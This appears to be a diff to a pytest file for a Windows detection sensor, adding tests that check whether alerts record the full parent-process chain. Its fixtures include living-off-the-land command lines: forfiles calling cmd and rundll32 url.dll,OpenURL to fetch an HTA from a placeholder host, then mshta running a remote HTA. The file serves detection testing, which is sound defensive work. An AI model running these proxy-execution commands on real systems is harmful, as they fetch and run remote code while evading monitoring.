@@ -2,18 +2,21 @@
 
 from __future__ import annotations
 
+import json
 import struct
 from typing import Any
 
 import pytest
-from engine_rules import Row, engine_with
+from engine_rules import Row, engine_with, table
 from etl_file import BEGIN, Event, classic_process, kernel_start
 from test_actors import SYSMON, replayed
 from test_etw_source import MS, alerts, running
 
-from sensor.native import Engine, lib
+from sensor.native import Engine, Rules, lib
+from sensor.proxy import proxy_of
 
 ANY: Row = ("windows", "process_creation", "CommandLine", "e")
+READ: Row = ("windows", "process_creation", "ProxyChain", "no such program")
 C = "C:\\Windows\\System32\\"
 FORFILES = 'forfiles /c "cmd /c rundll32 url.dll,OpenURL http://e/x.hta"'
 
@@ -94,10 +97,36 @@ CASES: list[tuple[str, list[dict[str, Any]], list[str]]] = [
 ]  # fmt: skip
 
 
+@pytest.mark.parametrize("rows", [[ANY], [ANY, READ]], ids=["for alerts", "for rules"])
 @pytest.mark.parametrize(("lines", "want"), [row[1:] for row in CASES], ids=[row[0] for row in CASES])
-def test_chain(lines: list[dict[str, Any]], want: list[str]) -> None:
-    with engine_with([ANY]) as engine:
+def test_chain(lines: list[dict[str, Any]], want: list[str], rows: list[Row]) -> None:
+    with engine_with(rows) as engine:
         assert chains(engine, lines) == want
+
+
+def test_what_lived_before_the_rules_did() -> None:
+    """Nobody reads what is unwound until then."""
+    lines = [start(20, 8, FORFILES), start(24, 20, "cmd /c rundll32 url.dll,OpenURL http://e/x.hta")]
+    with engine_with([ANY]) as engine:
+        chains(engine, lines)
+        rules = Rules(table([ANY, READ]))
+        engine.swap_rules(rules)
+        assert engine.feed_json(json.dumps(start(28, 24, "rundll32 url.dll,OpenURL http://e/")).encode())
+        proxy = proxy_of(engine.take()[0].proxy)
+        assert proxy is not None
+        assert ",".join(proxy.chain) == "forfiles,cmd,rundll32,url.dll"
+
+
+def test_alerts_on_few_starts_know_all_of_the_chain() -> None:
+    """Those between bring no rule out, so nobody has looked at them."""
+    lines = [
+        start(20, 8, FORFILES),
+        start(24, 20, 'cmd /c "rundll32 url.dll,OpenURL http://e/x.hta"'),
+        start(28, 24, "rundll32 url.dll,OpenURL http://e/x.hta"),
+        start(32, 28, "mshta http://e/here.hta"),
+    ]
+    with engine_with([("windows", "process_creation", "CommandLine", "here.hta")]) as engine:
+        assert chains(engine, lines) == ["forfiles,cmd,rundll32,url.dll,mshta"]
 
 
 def test_a_chain_without_an_end_keeps_its_last_names() -> None:
